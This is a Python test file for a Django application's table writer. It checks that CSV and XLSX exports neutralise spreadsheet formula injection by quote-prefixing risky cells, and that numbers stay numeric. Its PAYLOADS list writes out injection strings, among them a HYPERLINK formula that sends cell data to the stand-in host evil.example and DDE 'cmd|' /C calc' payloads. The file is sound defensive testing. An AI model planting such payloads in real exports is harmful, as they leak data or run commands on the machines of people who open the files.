"""The one table writer (cdrp.core.tables): no CSV or XLSX the product writes carries a live
formula (OWASP CSV injection), numbers stay numbers, and every export goes through it: the
public structure.csv, spend.csv/xlsx, the performance statuses and indicators, the assessment
annex, the counts download and `cdrp stats counts --format csv`."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace

import pandas as pd
import pyarrow as pa
import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from cdrp.core import tables
from test_funding_support import *  # noqa: F403 (fixtures)

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BAD = PAYLOADS[0]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert_csv(text: str, payload: str = BAD) -> None:
    cells = _csv_cells(text)
    assert "'" + payload in cells, f"{payload!r} not found neutralised in {text[:400]!r}"
    assert payload not in cells
    for cell in cells:
        assert cell[:1] not in tables.FORMULA_STARTS or tables._PLAIN_NUMBER.fullmatch(cell), cell


def _assert_inert_xlsx(content: bytes, payload: str = BAD) -> list:
    """No formula cell anywhere; the payload is a string cell (returns every value read)."""
    book = load_workbook(io.BytesIO(content))
    values, found = [], False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if cell.value == payload:
                    found = True
                    assert cell.data_type == "s" and cell.quotePrefix
                values.append(cell.value)
    assert found, f"{payload!r} not in the workbook"
    return values


# -- the writer ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised_in_csv_with_a_single_quote(payload):
    text = tables.csv_text([[payload, 1]], header=["name", "n"])
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + payload, "1"]


def test_a_carriage_return_inside_a_cell_does_not_start_a_new_row():
    text = tables.csv_text([["note\r=1+1", 2], ["plain", 3]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["note\r=1+1", "2"], ["plain", "3"]]
    assert text == '"note\r=1+1",2\nplain,3\n'


def test_numbers_dates_and_number_like_text_are_left_alone():
    row = [-3, -2.5, Decimal("-12.50"), "-12.50", "+7", "1e3", dt.date(2022, 1, 31), None, True]
    text = tables.csv_text([row])
    assert text == "-3,-2.5,-12.50,-12.50,+7,1e3,2022-01-31,,True\n"
    assert tables.neutralise("- a note") == "'- a note"
    assert tables.neutralise("-1+1") == "'-1+1"
    assert tables.neutralise("Chorley") == "Chorley"


def test_the_line_ending_is_the_callers_choice():
    assert tables.csv_text([["a"]], lineterminator="\r\n") == "a\r\n"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_text_is_a_string_cell_never_a_formula_and_numbers_stay_numbers(payload):
    content = tables.xlsx_bytes(
        [tables.Sheet("T", [[payload, -3, Decimal("2.50"), "-4"]], header=["a", "b", "c", "d"])]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    text, number, money, textual = sheet[2]
    # An XML reader may give a carriage return back as a line feed (the standard library's
    # parser does, lxml does not); the text is otherwise as written.
    assert text.value in {payload, payload.replace("\r", "\n")} and text.data_type == "s"
    assert text.quotePrefix
    assert number.value == -3 and number.data_type == "n"
    assert money.value == 2.5 and money.data_type == "n"
    assert textual.value == "-4" and textual.data_type == "s" and not textual.quotePrefix
    assert [c.font.b for c in sheet[1]] == [True] * 4


def test_xlsx_replaces_characters_xml_cannot_hold_instead_of_failing():
    content = tables.xlsx_bytes([tables.Sheet("T", [["bell\x07 and nul\x00"]])])
    assert load_workbook(io.BytesIO(content)).active["A1"].value == "bell\ufffd and nul\ufffd"


def test_xlsx_number_formats_widths_and_sheet_names():
    content = tables.xlsx_bytes(
        [
            tables.Sheet(
                "a/very:long*sheet?name[that]goes on and on",
                [["x", Decimal("1.5")], [], ["Total", 3]],
                number_formats={2: "#,##0.00"},
                widths=(20, 10),
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "a-very-long-sheet-name-that-goe"
    assert sheet["B1"].number_format == "#,##0.00" and sheet["B3"].number_format == "#,##0.00"
    assert sheet["A1"].number_format == "General"
    assert sheet.column_dimensions["A"].width == 20
    assert list(sheet.iter_rows(values_only=True))[1] == (None, None)


# -- every export -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_public_structure_csv_is_inert(client, partnership):
    from cdrp.partnerships.models import Group, Membership, Organisation, Person, Seat

    group = Group.objects.create(partnership=partnership, slug="rag", name=BAD, kind="strategy")
    org = Organisation.objects.create(slug="o", name=PAYLOADS[3], kind="police")
    seat = Seat.objects.create(group=group, label=PAYLOADS[1], organisation=org, voting=True)
    person = Person.objects.create(slug="p", name=PAYLOADS[2])
    Membership.objects.create(seat=seat, person=person, role=Membership.Role.CHAIR)
    response = client.get(f"/partnerships/{partnership.slug}/export/structure.csv")
    assert response.status_code == 200
    text = response.content.decode()
    for payload in PAYLOADS[:4]:
        _assert_inert_csv(text, payload)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["voting"] == "yes" and row["partnership"] == partnership.slug


@pytest.mark.django_db
def test_the_spend_downloads_are_inert_and_keep_amounts_as_numbers(client, member, project):
    from cdrp.funding import services as funding

    project.title = BAD
    project.save()
    funding.record_spend(project, dt.date(2023, 5, 1), 123_45, PAYLOADS[3])
    client.force_login(member)
    text = client.get("/plans/funding/lancashire-south/spend.csv", secure=True).content.decode()
    _assert_inert_csv(text)
    _assert_inert_csv(text, PAYLOADS[3])
    assert text.endswith("123.45,12345\r\n")
    content = client.get("/plans/funding/lancashire-south/spend.xlsx", secure=True).content
    values = _assert_inert_xlsx(content)
    sheet = load_workbook(io.BytesIO(content))["Spend"]
    assert sheet["F2"].value == 123.45 and sheet["F2"].data_type == "n"
    assert sheet["G2"].value == 12345 and sheet["F2"].number_format == "#,##0.00"
    assert values.count(PAYLOADS[3]) == 1


def _status_rows():
    named = SimpleNamespace(name=BAD, text=PAYLOADS[2])
    return [
        {
            "priority": named,
            "objective": named,
            "indicator": named,
            "measure": "count",
            "direction": "lower",
            "period": ("2022-04", "2023-03"),
            "target_text": PAYLOADS[3],
            "target_value": -5,
            "as_of": "2022-08",
            "value": 12.0,
            "projection": -1.5,
            "low": None,
            "high": 3,
            "status": "on track",
            "reasoning": "=1+1",
            "months": [{"month": "2022-08", "value": -2.0}],
        }
    ]


def test_the_performance_downloads_are_inert_and_keep_numbers():
    from cdrp.performance import exports as performance

    rows = _status_rows()
    for text in (performance.statuses_csv(rows), performance.indicators_csv(rows)):
        _assert_inert_csv(text)
    statuses = list(csv.DictReader(io.StringIO(performance.statuses_csv(rows))))[0]
    # A count's figures are whole numbers (rounded half away from zero, as a spreadsheet shows).
    assert statuses["Target figure"] == "-5" and statuses["Projected"] == "-2"
    assert statuses["Objective"] == "'-2+3" and statuses["Reasoning"] == "'=1+1"
    for content in (performance.statuses_xlsx(rows), performance.indicators_xlsx(rows)):
        _assert_inert_xlsx(content)
    sheet = load_workbook(io.BytesIO(performance.indicators_xlsx(rows))).active
    assert sheet["E2"].value == -2 and sheet["E2"].data_type == "n"


def test_the_assessment_annex_is_inert_and_keeps_numbers():
    from cdrp.intelligence.documents import annex_csv, annex_xlsx

    table = {
        "id": "levels-wards",
        "title": "Records by ward",
        "columns": [
            {"key": "ward", "label": "Ward", "format": "text"},
            {"key": "count", "label": "Records", "format": "int"},
            {"key": "change", "label": "Change", "format": "int"},
        ],
        "rows": [{"ward": BAD, "count": 12, "change": -3}],
    }
    record = SimpleNamespace(
        document={"sections": [{"number": 1, "title": "Levels", "tables": [table]}]}
    )
    text = annex_csv(record)
    _assert_inert_csv(text)
    assert text.splitlines()[2].endswith(",12,-3")
    _assert_inert_xlsx(annex_xlsx(record))
    sheet = load_workbook(io.BytesIO(annex_xlsx(record)))["levels-wards"]
    assert sheet["C3"].value == -3 and sheet["C3"].data_type == "n"


@pytest.fixture
def malicious_counts(monkeypatch, settings, tmp_path):
    """The store answers with a district whose name is a formula (as a tampered lookup could)."""
    frame = pd.DataFrame(
        {
            "district": ["E07000118", "E07000126"],
            "district_name": [BAD, "South Ribble"],
            "category": ["burglary", "burglary"],
            "count": [7, 9],
        }
    )

    def fake(store, by=("district",), **kwargs):
        out = frame[[*[c for c in frame.columns if c.split("_")[0] in by], "count"]]
        if kwargs.get("output") == "pandas":
            return out
        return pa.Table.from_pandas(out, preserve_index=False)

    # The command module first: importing it while cdrp.store.counts is the fake would bind the
    # fake into it for good (monkeypatch would then "restore" the fake).
    monkeypatch.setattr("cdrp.intelligence.management.commands.stats.counts", fake)
    monkeypatch.setattr("cdrp.store.counts", fake)
    monkeypatch.setattr("cdrp.intelligence.views._coverage_frame", lambda: pd.DataFrame())
    return frame


@pytest.mark.django_db
def test_the_counts_download_is_inert(client, member, malicious_counts):
    client.force_login(member)
    response = client.get("/intelligence/counts/?from=2022-01&to=2022-02&format=csv")
    assert response.status_code == 200
    text = response.content.decode()
    _assert_inert_csv(text)
    assert text.splitlines()[1:] == [
        "E07000126,South Ribble,9,9",
        'E07000118,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",7,7',
    ]


@pytest.mark.django_db
def test_the_stats_command_csv_is_inert(malicious_counts):
    out = io.StringIO()
    call_command("stats", "counts", "--by", "district", "--format", "csv", stdout=out)
    _assert_inert_csv(out.getvalue())
    assert out.getvalue().splitlines()[0] == "district,district_name,count"


def test_the_writers_examples_run():
    import doctest

    result = doctest.testmod(tables, optionflags=doctest.NORMALIZE_WHITESPACE)
    assert result.attempted > 0 and result.failed == 0
